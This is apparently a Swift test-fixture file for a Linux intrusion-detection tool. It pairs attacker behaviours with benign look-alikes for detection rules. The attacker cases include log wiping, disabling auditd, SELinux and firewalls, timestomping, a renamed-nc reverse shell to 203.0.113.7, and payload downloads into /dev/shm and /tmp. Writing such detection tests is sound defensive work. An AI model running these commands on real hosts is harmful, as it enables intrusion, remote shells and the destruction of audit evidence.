import MamoriEvents

extension Fixtures {
    static let logrotate = Trees.cronJob("test -x /usr/sbin/logrotate || exit 0; /usr/sbin/logrotate /etc/logrotate.conf")
        .spawning(Proc.line("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", unit: "cron.service"))

    static let defenseEvasion: [RuleFixture] = [
        RuleFixture("system-log-tampered",
            positives: [
                Case("sed -i drops lines from auth.log", Actor(Proc.line("/usr/bin/sed", "sed -i /203.0.113.7/d /var/log/auth.log"), in: Trees.rootLogin).file(.rename, "/var/log/sedX1y2Z3", to: "/var/log/auth.log")),
                Case("> /var/log/wtmp", rootShell.file(.openWrite, "/var/log/wtmp")),
                Case("truncate -s0 audit.log", Actor(Proc.line("/usr/bin/truncate", "truncate -s0 /var/log/audit/audit.log"), in: Trees.rootLogin).file(.truncate, "/var/log/audit/audit.log")),
            ],
            negatives: [
                Case("rsyslog appends to auth.log", Actor(Proc("/usr/sbin/rsyslogd", ["/usr/sbin/rsyslogd", "-n", "-iNONE"], unit: "rsyslog.service", uid: 104), in: Tree([Trees.systemd])).file(.openWrite, "/var/log/auth.log")),
                Case("sshd records a login in wtmp", Actor(Trees.sshdSession, in: Tree([Trees.sshd, Trees.systemd])).file(.openWrite, "/var/log/wtmp")),
                Case("logrotate rotates auth.log", Actor(logrotate.ancestors[0], in: Tree(Array(logrotate.ancestors.dropFirst()))).file(.rename, "/var/log/auth.log", to: "/var/log/auth.log.1")),
            ]),

        RuleFixture("system-log-deleted",
            positives: [
                Case("rm /var/log/auth.log", Actor(Proc.line("/usr/bin/rm", "rm -f /var/log/auth.log"), in: Trees.rootLogin).file(.unlink, "/var/log/auth.log")),
                Case("python deletes a journal file", Actor(python, in: Trees.rootLogin).file(.unlink, "/var/log/journal/4f1c/system.journal")),
            ],
            negatives: [
                Case("logrotate removes an old rotation", Actor(logrotate.ancestors[0], in: Tree(Array(logrotate.ancestors.dropFirst()))).file(.unlink, "/var/log/auth.log.5.gz")),
                Case("journalctl --vacuum-time=2weeks", Actor(Proc.line("/usr/bin/journalctl", "journalctl --vacuum-time=2weeks"), in: Trees.rootLogin).file(.unlink, "/var/log/journal/4f1c/system@0001.journal")),
            ]),

        RuleFixture("log-directory-mass-deletion",
            positives: [
                Case("rm -rf /var/log/nginx/*", (0..<20).map { i in
                    Actor(Proc.line("/usr/bin/rm", "rm -rf /var/log/nginx/"), in: Trees.rootLogin).file(.unlink, "/var/log/nginx/access.log.\(i)", at: 100 + Double(i) * 0.5)
                }),
                Case("a loop of rm in one session, one log each", (0..<20).map { i in
                    Actor(Proc.line("/usr/bin/rm", "rm -f /var/log/app/app\(i).log", pid: 7000 + UInt32(i)), in: Trees.rootLogin)
                        .file(.unlink, "/var/log/app/app\(i).log", at: 100 + Double(i) * 0.2)
                }),
            ],
            negatives: [
                Case("logrotate removes 20 old logs", (0..<20).map { i in
                    Actor(logrotate.ancestors[0], in: Tree(Array(logrotate.ancestors.dropFirst()))).file(.unlink, "/var/log/app/app.log.\(i).gz", at: 100 + Double(i) * 0.2)
                }),
                Case("a handful of deletions", (0..<10).map { i in
                    Actor(Proc.line("/usr/bin/rm", "rm /var/log/app/debug-*.log"), in: Trees.rootLogin).file(.unlink, "/var/log/app/debug-\(i).log", at: 100 + Double(i))
                }),
            ]),

        RuleFixture("history-disabled-in-command-line",
            positives: [
                Case("unset HISTFILE in sh -c", Actor(Proc.shell("unset HISTFILE; export HISTSIZE=0; id", exe: "/usr/bin/bash"), in: Trees.rootLogin).exec()),
                Case("ln -sf /dev/null ~/.bash_history", Actor(Proc.line("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("reading the history", Actor(Proc.shell("history | tail -20", exe: "/usr/bin/bash"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("shell-history-deleted",
            positives: [
                Case("rm ~/.bash_history", Actor(Proc.line("/usr/bin/rm", "rm -f /root/.bash_history"), in: Trees.rootLogin).file(.unlink, "/root/.bash_history")),
                Case("shred -u ~/.mysql_history", Actor(Proc.line("/usr/bin/shred", "shred -u /home/alice/.mysql_history", uid: 1000), in: Trees.userLogin).file(.unlink, "/home/alice/.mysql_history")),
            ],
            negatives: [
                Case("userdel -r removes the home directory", Actor(Proc.line("/usr/sbin/userdel", "userdel -r bob"), in: Trees.sudoRoot).file(.unlink, "/home/bob/.bash_history")),
            ]),

        RuleFixture("world-writable-system-path",
            positives: [
                Case("chmod 777 on a root-run script", Actor(Proc.line("/usr/bin/chmod", "chmod 777 /usr/local/bin/backup.sh"), in: Trees.rootLogin).file(.chmod, "/usr/local/bin/backup.sh", mode: 0o777)),
                Case("chmod o+w /etc/cron.daily", Actor(Proc.line("/usr/bin/chmod", "chmod o+w /etc/cron.daily"), in: Trees.rootLogin).file(.chmod, "/etc/cron.daily", mode: 0o757)),
            ],
            negatives: [
                Case("sticky world-writable scratch directory", Actor(Proc.line("/usr/bin/chmod", "chmod 1777 /usr/local/share/scratch"), in: Trees.rootLogin).file(.chmod, "/usr/local/share/scratch", mode: 0o1777)),
                Case("world-writable upload directory outside system paths", Actor(Proc.line("/usr/bin/chmod", "chmod 777 /var/www/uploads"), in: Trees.rootLogin).file(.chmod, "/var/www/uploads", mode: 0o777)),
            ]),

        RuleFixture("security-service-stopped",
            positives: [
                Case("systemctl stop auditd", Actor(Proc.line("/usr/bin/systemctl", "systemctl stop auditd"), in: Trees.rootLogin).exec()),
                Case("pkill -9 falco", Actor(Proc.line("/usr/bin/pkill", "pkill -9 falco"), in: Trees.rootLogin).exec()),
                Case("systemctl disable --now mamori", Actor(Proc.line("/usr/bin/systemctl", "systemctl disable --now mamori.service"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("reload Mamori's configuration with SIGHUP", Actor(Proc.line("/usr/bin/pkill", "pkill -HUP mamori"), in: Trees.rootLogin).exec()),
                Case("systemctl restart auditd", Actor(Proc.line("/usr/bin/systemctl", "systemctl restart auditd"), in: Trees.rootLogin).exec()),
                Case("package upgrade stops auditd", Actor(Proc.line("/usr/bin/systemctl", "systemctl stop auditd.service"), in: Trees.dpkgScript.spawning(Proc("/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/deb-systemd-invoke", "stop", "auditd.service"]))).exec(stdin: .fifo, stdout: .fifo)),
            ]),

        RuleFixture("audit-or-mac-disabled",
            positives: [
                Case("auditctl -D", Actor(Proc.line("/usr/sbin/auditctl", "auditctl -D"), in: Trees.rootLogin).exec()),
                Case("setenforce Permissive", Actor(Proc.line("/usr/sbin/setenforce", "setenforce Permissive"), in: Trees.rootLogin).exec()),
                Case("sed SELINUX=disabled", Actor(Proc.line("/usr/bin/sed", "sed -i s/SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config"), in: Trees.rootLogin).exec()),
                Case("aa-teardown", Actor(Proc("/usr/bin/dash", ["/bin/sh", "/usr/sbin/aa-teardown"]), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("augenrules reloads the rule set", Actor(Proc.line("/usr/sbin/auditctl", "auditctl -D"), in: Trees.rootLogin.spawning(Proc("/usr/bin/dash", ["/bin/sh", "/usr/sbin/augenrules", "--load"]))).exec()),
                Case("snapd unloads a removed snap's profile", Actor(Proc.line("/usr/sbin/apparmor_parser", "apparmor_parser --remove /var/lib/snapd/apparmor/profiles/snap.hello.hello"), in: Trees.unit("snapd.service", Proc("/usr/lib/snapd/snapd", ["/usr/lib/snapd/snapd"]))).exec(stdin: .closed, stdout: .fifo)),
                Case("setenforce 1", Actor(Proc.line("/usr/sbin/setenforce", "setenforce 1"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("firewall-disabled",
            positives: [
                Case("ufw disable", Actor(Proc("/usr/bin/python3.12", ["/usr/bin/python3", "/usr/sbin/ufw", "disable"]), in: Trees.rootLogin).exec()),
                Case("iptables -F", Actor(Proc.line("/usr/sbin/xtables-nft-multi", "iptables -F"), in: Trees.rootLogin).exec()),
                Case("nft flush ruleset", Actor(Proc.line("/usr/sbin/nft", "nft flush ruleset"), in: Trees.rootLogin).exec()),
                Case("systemctl stop firewalld", Actor(Proc.line("/usr/bin/systemctl", "systemctl stop firewalld"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("Docker flushes its own chain", Actor(Proc.line("/usr/sbin/xtables-nft-multi", "iptables --wait -t nat -F DOCKER"), in: Trees.unit("docker.service", Proc("/usr/bin/dockerd", ["/usr/bin/dockerd", "-H", "fd://"]))).exec()),
                Case("listing the rules", Actor(Proc.line("/usr/sbin/xtables-nft-multi", "iptables -L -n -v"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("exec-from-staging-location",
            positives: [
                Case("binary in /dev/shm", Actor(Proc("/dev/shm/kworker", ["kworker"]), in: Trees.rootLogin).exec(),
                     also: ["daemon-name-outside-system-path"]),
                Case("binary in a hidden directory", Actor(Proc("/tmp/.X11-unix/.x/xm", ["xm", "-B"], uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
                Case("script in a hidden path under /tmp", Actor(Proc("/usr/bin/bash", ["bash", "/tmp/.ssh-x/run.sh"], uid: 1000), in: Trees.userLogin).exec()),
                Case("copied shell run with -p", Actor(Proc("/var/tmp/sh", ["/var/tmp/sh", "-p"], uid: 1000), in: Trees.userLogin).exec()),
                Case("tool-directory name used under /tmp", Actor(Proc("/tmp/.venv/bin/kswapd", ["kswapd"], uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
            ],
            negatives: [
                Case("cargo-installed tool", Actor(Proc("/home/alice/.cargo/bin/rg", ["rg", "TODO"], uid: 1000), in: Trees.userLogin).exec()),
                Case("pipx tool in ~/.local/bin", Actor(Proc("/home/alice/.local/bin/black", ["black", "."], uid: 1000), in: Trees.userLogin).exec()),
                Case("system shell", Actor(Proc("/usr/bin/bash", ["bash", "/tmp/build.sh"]), in: Trees.rootLogin).exec()),
                Case("SwiftPM build product", Actor(Proc("/home/alice/proj/.build/debug/app", ["./.build/debug/app"], uid: 1000), in: Trees.userLogin).exec()),
            ]),

        RuleFixture("kernel-thread-name-masquerade",
            positives: [
                Case("exec -a '[kworker/0:2]'", Actor(Proc("/var/lib/apt/upd", ["[kworker/0:2]"]), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("bracket in an argument only", Actor(Proc("/usr/bin/python3.12", ["python3", "[x].py"]), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("renamed-download-utility",
            positives: [
                Case("curl rebuilt as sysupd fetches into /tmp", {
                    let a = Actor(Proc("/usr/local/bin/sysupd", ["sysupd", "-sSLo", "/tmp/.x", "http://203.0.113.7/a"]), in: Trees.rootLogin)
                    return [a.exec(at: 100), a.connect("203.0.113.7", 80, at: 100.2)]
                }()),
                Case("wget renamed to dbus-launch-helper2 in a web shell", {
                    let a = Actor(Proc("/usr/lib/dbus-1.0/dbus-launch-helper2", ["dbus-launch-helper2", "-q", "-O", "/dev/shm/p", "https://203.0.113.7/p"], uid: 33), in: Trees.webShell)
                    return [a.exec(at: 100, stdin: .fifo, stdout: .fifo), a.connect("203.0.113.7", 443, at: 101)]
                }(), also: ["service-child-connects-to-internet"]),
                Case("the fetch is refused (the server is down): still a download attempt", {
                    let a = Actor(Proc("/home/alice/.cache/upd", ["upd", "-o", "/tmp/.k", "http://127.0.0.1:8080/k"], uid: 1000), in: Trees.userLogin)
                    return [a.exec(at: 100), a.connect("127.0.0.1", 8080, result: -111, at: 100.1)]
                }(), also: ["exec-from-staging-location"]),
            ],
            negatives: [
                Case("real curl", Actor(Proc.line("/usr/bin/curl", "curl -sSLo /tmp/x.tgz https://example.org/x.tgz"), in: Trees.rootLogin).exec()),
                Case("media tool writing outside scratch", Actor(Proc.line("/usr/bin/ffmpeg", "ffmpeg -i http://cam.local/stream -o /srv/rec/out.mp4"), in: Trees.rootLogin).exec()),
                Case("clang -cc1as of a compiler build: a URL in the producer string, an object in /tmp, no network", {
                    let make = Proc.line("/usr/bin/make", "make -j2", uid: 1000)
                    let driver = Proc.line("/usr/lib/llvm-21/bin/clang", "/usr/lib/llvm-21/bin/clang -c -o build/crt.o src/crt.S", uid: 1000)
                    let as1 = Proc("/usr/lib/llvm-21/bin/clang-21", ["/usr/lib/llvm-21/bin/clang-21", "-cc1as", "-triple", "x86_64-pc-linux-gnu",
                        "-filetype", "obj", "-main-file-name", "crt.S", "-target-cpu", "x86-64", "-dwarf-version=5",
                        "-dwarf-debug-producer", "clang version 21.1.2 (https://github.com/llvm/llvm-project.git 8a3bc1e)",
                        "-I", "src/include", "-o", "/tmp/crt-5d1a2b.o", "/tmp/crt-9c0e11.s"], uid: 1000)
                    let tree = Trees.userLogin.spawning(make).spawning(driver)
                    let a = Actor(as1, in: tree)
                    return [a.exec(at: 100), a.file(.create, "/tmp/crt-5d1a2b.o", at: 100.1)]
                }()),
                Case("a renamed-looking helper that never touches the network", Actor(Proc("/opt/tools/mirror-sync", ["mirror-sync", "--output", "/tmp/sync.log", "https://mirror.example.org/debian"]), in: Trees.rootLogin).exec()),
                Case("a connect by the same binary name from another process", [
                    Actor(Proc("/usr/local/bin/sysupd", ["sysupd", "-o", "/tmp/.x", "http://203.0.113.7/a"], pid: 4100), in: Trees.rootLogin).exec(at: 100),
                    Actor(Proc("/usr/local/bin/sysupd", ["sysupd", "--status"], pid: 4101), in: Trees.rootLogin).connect("203.0.113.7", 80, at: 100.5),
                ]),
            ]),

        RuleFixture("aslr-disabled",
            positives: [
                Case("sysctl -w", Actor(Proc.line("/usr/sbin/sysctl", "sysctl -w kernel.randomize_va_space=0"), in: Trees.rootLogin).exec()),
                Case("echo 0 into /proc", Actor(Proc.line("/usr/bin/bash", "bash -c echo 0 > /proc/sys/kernel/randomize_va_space"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("reading the setting", Actor(Proc.line("/usr/sbin/sysctl", "sysctl kernel.randomize_va_space"), in: Trees.rootLogin).exec()),
                Case("restoring full randomisation", Actor(Proc.line("/usr/sbin/sysctl", "sysctl -w kernel.randomize_va_space=2"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("timestomp-system-file",
            positives: [
                Case("touch -r copies ls's times onto a planted binary", Actor(Proc.line("/usr/bin/touch", "touch -r /usr/bin/ls /usr/bin/sysupd"), in: Trees.rootLogin).exec()),
                Case("touch -d on a planted unit", Actor(Proc.line("/usr/bin/touch", "touch -d 2021-03-04 /etc/systemd/system/dbus-helper.service"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("touch of a marker file", Actor(Proc.line("/usr/bin/touch", "touch /etc/nologin"), in: Trees.rootLogin).exec()),
                Case("make resets a build stamp", Actor(Proc.line("/usr/bin/touch", "touch -d @0 build/stamp /home/alice/src/app/out"), in: Trees.userLogin).exec()),
            ]),
    ]
}

extension Fixtures {
    static let daemonMasquerade: [RuleFixture] = [
        RuleFixture("daemon-name-outside-system-path",
            positives: [
                Case("a shell copied to /tmp/.x/sshd", Actor(Proc.line("/tmp/.x/sshd", "sshd -D"), in: Trees.rootLogin).exec(),
                     also: ["exec-from-staging-location"]),
                Case("an implant as /var/tmp/crond", Actor(Proc.line("/var/tmp/crond", "crond"), in: Trees.rootLogin).exec()),
                Case("a payload as ~/bin/rsyslogd", Actor(Proc.line("/home/alice/bin/rsyslogd", "rsyslogd -n", uid: 1000), in: Trees.userLogin).exec()),
            ],
            negatives: [
                Case("the real sshd", Actor(Proc.line("/usr/sbin/sshd", "sshd -D"), in: Tree([Trees.systemd])).exec()),
                Case("postgres from its package directory", Actor(Proc.line("/usr/lib/postgresql/15/bin/postgres", "postgres -D /var/lib/postgresql/15/main"), in: Tree([Trees.systemd])).exec()),
                Case("nginx from /opt", Actor(Proc.line("/opt/nginx/sbin/nginx", "nginx -g daemon off;"), in: Tree([Trees.systemd])).exec()),
                Case("a tool whose name merely ends like a daemon", Actor(Proc.line("/tmp/build/webmaster", "webmaster --help"), in: Trees.userLogin).exec()),
            ]),
    ]
}

extension Fixtures {
    static let contentIdentity: [RuleFixture] = [
        RuleFixture("renamed-system-tool",
            positives: [
                Case("bash copied to ~/bin/update-helper", Actor(Proc.line("/home/alice/bin/update-helper", "update-helper -i", uid: 1000).copy(of: "bash"), in: Trees.userLogin).exec()),
                Case("nc renamed dbus-helper", Actor(Proc.line("/var/lib/app/dbus-helper", "dbus-helper -e /bin/sh 203.0.113.7 4444").copy(of: "nc"), in: Trees.rootLogin).exec()),
                Case("python3 copied as worker", Actor(Proc.line("/opt/app/worker", "worker -c import pty;pty.spawn('/bin/sh')").copy(of: "python3"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("the real bash", Actor(Proc.line("/usr/bin/bash", "bash -l", uid: 1000).copy(of: "bash"), in: Trees.userLogin).exec()),
                Case("dash through /bin/sh", Actor(Proc.line("/bin/sh", "sh -c true").copy(of: "dash"), in: Trees.rootLogin).exec()),
                Case("python3.11 is python3", Actor(Proc.line("/usr/bin/python3.11", "python3.11 -V").copy(of: "python3"), in: Trees.rootLogin).exec()),
                Case("nc.openbsd is nc", Actor(Proc.line("/usr/bin/nc.openbsd", "nc -z 127.0.0.1 22").copy(of: "nc"), in: Trees.rootLogin).exec()),
                Case("an unknown binary", Actor(Proc.line("/opt/app/worker", "worker --serve"), in: Trees.rootLogin).exec()),
            ]),
        RuleFixture("padded-executable-path",
            positives: [
                Case("payload 60 directories deep", Actor(Proc.line("/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/x", "x"), in: Trees.rootLogin).exec(flags: [.exeTruncated])),
            ],
            negatives: [
                Case("a long command line is not padding", Actor(Proc.line("/usr/bin/gcc", "gcc -c x.c"), in: Trees.userLogin).exec(flags: [.argsTruncated])),
                Case("an ordinary exec", Actor(Proc.line("/usr/bin/id", "id"), in: Trees.rootLogin).exec()),
            ]),
    ]
}
